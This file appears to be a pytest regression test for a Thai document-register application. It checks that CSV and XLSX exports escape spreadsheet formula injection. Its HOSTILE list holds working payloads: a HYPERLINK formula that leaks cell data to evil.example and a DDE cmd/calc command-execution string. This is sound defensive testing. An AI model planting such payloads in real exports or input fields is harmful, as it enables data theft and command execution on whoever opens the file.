"""Formula injection in register exports: a subject like ``=HYPERLINK(…)`` was a live formula in the XLSX,
and CSV cells starting with ``= + - @`` were not escaped.  Now no exported cell is a formula, and the
words a reader sees are the words registered."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from saraban.reports.registers import csv_cell, is_formula_like
from tests.fixtures import meta

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    " =1+1",
]
HARMLESS = ["-", "-5", "+3.5", "ประชุม = สำคัญ", "๑๒๓", ""]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_values_are_neutralised(value) -> None:
    assert is_formula_like(value)
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_values_are_left_alone(value) -> None:
    assert csv_cell(value) == value


def test_exports_carry_no_formula(registrar_api, clock) -> None:
    for i, subject in enumerate(HOSTILE):
        r = registrar_api.incoming(meta(their_ref=f"-{i}+1" if i == 0 else f"นร {i}", subject=subject.strip(),
                                        sender="@ผู้ส่ง" if i == 1 else "สำนักงานทดสอบ"))
        assert r.status_code == 201, r.content
    subjects = [s.strip() for s in HOSTILE]

    text = registrar_api.get("/registers/received/2569/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[5] for r in rows] == ["'" + s for s in subjects]  # every one neutralised, the words intact
    assert rows[0][1] == "'-0+1" and rows[1][3] == "'@ผู้ส่ง"
    for r in rows:
        assert not any(cell.lstrip(" ").startswith(("=", "+", "@")) for cell in r)

    data = registrar_api.get("/registers/received/2569/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    ws = load_workbook(io.BytesIO(data)).active
    shown = [ws.cell(row=3 + i, column=6) for i in range(len(subjects))]
    assert [c.value for c in shown] == subjects  # exactly the registered words, no quote added
    assert all(c.data_type == "s" and c.quotePrefix for c in shown)
    assert ws.cell(row=3, column=2).value == "-0+1" and ws.cell(row=4, column=4).value == "@ผู้ส่ง"
